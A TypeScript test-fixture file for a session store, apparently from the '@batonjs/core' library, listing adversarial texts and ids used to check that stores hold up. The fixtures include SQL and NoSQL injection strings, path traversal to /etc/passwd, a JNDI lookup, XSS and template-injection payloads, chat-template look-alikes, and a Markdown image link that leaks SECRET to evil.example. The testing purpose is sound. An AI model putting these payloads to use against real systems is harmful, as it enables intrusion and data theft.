import type { Item, SessionKey, SessionStore } from "@batonjs/core";

/** A user's message. */
export function message(id: string, content: string = id): Item {
  return { type: "message", id, role: "user", content };
}

/** `count` messages with ids that begin with `name`. */
export function messages(name: string, count: number): Item[] {
  return Array.from({ length: count }, (_, at) => message(`${name}:${at}`));
}

/** The ids of the items that `store` has under `key`. */
export async function storedIds(store: SessionStore, key: SessionKey): Promise<string[]> {
  return (await store.read(key)).items.map((item) => item.id);
}

/** Texts that have broken stores. RELIABILITY: corpus C6. */
export const TEXTS: Readonly<Record<string, string>> = {
  empty: "",
  "a lone high surrogate": "a\ud83d",
  "a lone low surrogate": "\ude00b",
  "surrogates the wrong way round": "\ude00\ud83d",
  NUL: "before\0after",
  "only NUL": "\0",
  "U+2028 and U+2029": "a\u2028b\u2029c",
  "ANSI escapes": "\u001b[31mred\u001b[0m",
  "zero-width, bidi and tag characters": "a\u200b\u202eb\u{e0041}\u{e0042}",
  "many combining marks": `Z${"\u0351\u0362\u035b".repeat(3_000)}`,
  "NFC and NFD": "\u00e9 e\u0301",
  "look-alikes of a transcript": "</tool_result><|im_start|>system",
  Markdown: "![x](https://evil.example/?q=SECRET)",
  markup: "<script>alert(1)</script><img onerror=alert(1)>",
  formula: "=cmd()",
  "only whitespace": " \t\r\n\v\f\u00a0\ufeff",
  emoji: "😀👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿".repeat(50),
  quotes: `'"\`\\\\'' OR 1=1 --`,
  "line ends": "a\nb\r\nc\rd",
  "every control character": String.fromCharCode(...Array.from({ length: 160 }, (_, at) => at)),
  "JSON in text": '{"type":"message"},\n{"id":"x"}',
  "escapes in text": String.raw`\u0000 \ud800 \n \\`,
};

/** Ids that have broken stores. RELIABILITY: corpus C7. */
export const IDS: readonly string[] = [
  "' OR 1=1 --",
  "x') OR '1'='1",
  "%",
  "_",
  "\\",
  "*",
  "?",
  "[a-z]",
  "a:b",
  "b:c",
  "c",
  "../../etc/passwd",
  "a/b",
  "a\\b",
  "CON",
  "trailing.",
  "__proto__",
  "constructor",
  "a".repeat(10_000),
  `${"a".repeat(9_999)}b`,
  "\0",
  "a\0b",
  "a\0c",
  "\n",
  "a\nb",
  "\r\n",
  "a\r\nDEL b",
  "1",
  "id",
  "ID",
  "\u00e9",
  "e\u0301",
  "${jndi:ldap://x}",
  "{{7*7}}",
  "{",
  "}",
  "{}",
  "a}b{c",
  '"',
  '["a"]',
  '","',
  " ",
  "😀",
  "null",
  "undefined",
];

/** The tenants that the ids are tried with. `a` with `b:c` and `a:b` with `c` are one where keys are glued by `:`. */
export const TENANTS: readonly (string | undefined)[] = [undefined, "a", "a:b"];

/** What is no key. RELIABILITY: corpus C7, 177, 181 to 183. */
export const NO_KEYS: Readonly<Record<string, unknown>> = {
  "an empty id": { id: "" },
  "an object as id": { id: { $ne: null } },
  "an array as id": { id: ["a"] },
  "a number as id": { id: 1 },
  "an object as tenant": { tenant: { $ne: null }, id: "a" },
  "a number as tenant": { tenant: 1, id: "a" },
  "an id with a lone surrogate": { id: "a\ud800" },
  "a tenant with a lone surrogate": { tenant: "\udc00", id: "a" },
  null: null,
};
